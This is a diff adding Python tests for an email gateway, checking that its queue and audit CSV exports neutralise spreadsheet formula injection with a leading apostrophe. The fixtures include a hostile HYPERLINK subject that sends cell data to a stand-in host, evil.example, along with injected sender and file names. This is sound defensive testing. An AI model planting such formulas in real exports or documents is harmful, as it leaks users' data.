@@ -1,0 +1,55 @@
+"""Exports meant for spreadsheets: a subject, a sender's name or a file name that a spreadsheet
+would run as a formula is written as text (a leading apostrophe), in the queue export, the audit
+export (and the report's CSV); everything else is written as it is."""
+from __future__ import annotations
+
+import csv
+import io
+from email.message import EmailMessage
+from pathlib import Path
+
+from web_support import Site
+
+from gateway.report.spreadsheet import cell
+
+HOSTILE_SUBJECT = '=HYPERLINK("http://evil.example/?"&A2,"details")'
+HOSTILE_FILE = "-2+3+cmd.csv"
+
+
+def test_cells_a_spreadsheet_would_run_are_written_as_text() -> None:
+    assert [cell(v) for v in ("=1+1", "+86 20 1234 5678", "-2+3", "@SUM(A1)", "\t=1", "\r=1")] == [
+        "'=1+1", "'+86 20 1234 5678", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1"]
+    assert [cell(v) for v in ("-", "+", "", "Order 4711", "紧急：合同签署", " =1", -3, 0.5, None)] == [
+        "-", "+", "", "Order 4711", "紧急：合同签署", " =1", -3, 0.5, None]
+
+
+def test_a_hostile_subject_and_sender_are_text_in_every_export(tmp_path: Path) -> None:
+    site = Site(tmp_path)
+    try:
+        site.add_people()
+        message = EmailMessage()
+        message["From"] = '"@SUM(1+1)" <alice@partner.example>'
+        message["To"] = "sales@example.org"
+        message["Subject"] = HOSTILE_SUBJECT
+        message["Message-ID"] = "<hostile-1@partner.example>"
+        message.set_content("Details attached.\n")
+        message.add_attachment(b"1,2\n", maintype="text", subtype="csv", filename=HOSTILE_FILE)
+        number = site.ingest("hostile", message.as_bytes())
+        rita = site.sign_in("rita")
+        exported = rita.get("/letters.csv", params={"queue": "all"})
+        assert exported.status_code == 200
+        [row] = [r for r in csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")))
+                 if r["number"] == number]
+        assert (row["subject"], row["sender_name"]) == ("'" + HOSTILE_SUBJECT, "'@SUM(1+1)")
+        assert row["sender_address"] == "alice@partner.example" and row["number"] == number
+
+        # A download, whose audit row names the file.
+        assert rita.get(f"/letters/{number}/attachments/0").status_code == 200
+        audit = site.sign_in("audrey").get("/audit.csv", params={"actor": "rita"})
+        assert audit.status_code == 200
+        rows = list(csv.DictReader(io.StringIO(audit.content.decode("utf-8-sig"))))
+        assert {r["subject"] for r in rows if r["letter"] == number and r["action"] == "download"} == {
+            "'" + HOSTILE_FILE}
+
+    finally:
+        site.close()
